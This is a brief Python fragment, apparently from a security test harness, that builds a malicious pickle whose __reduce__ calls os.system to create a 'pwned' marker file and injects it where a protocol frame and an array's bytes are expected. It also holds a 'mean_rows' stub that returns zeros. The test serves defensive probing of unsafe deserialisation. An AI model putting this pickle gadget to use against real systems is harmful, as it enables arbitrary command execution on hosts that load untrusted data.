"""A pickle in place of a frame, and in place of an array's bytes."""
import pickle

class Evil:
    def __reduce__(self):
        return os.system, ("touch " + BAIT["folder"] + "/pwned",)

forge(lambda honest: pickle.dumps(Evil()) + frame({"outcome": "answer", "values": {"value": {"t": "array", "dtype": "|O", "shape": [1], "i": 0}}, "sizes": [64]}, pickle.dumps([1]).ljust(64)))
# %% mean_rows
def mean_rows(X):
    return np.zeros(len(X))
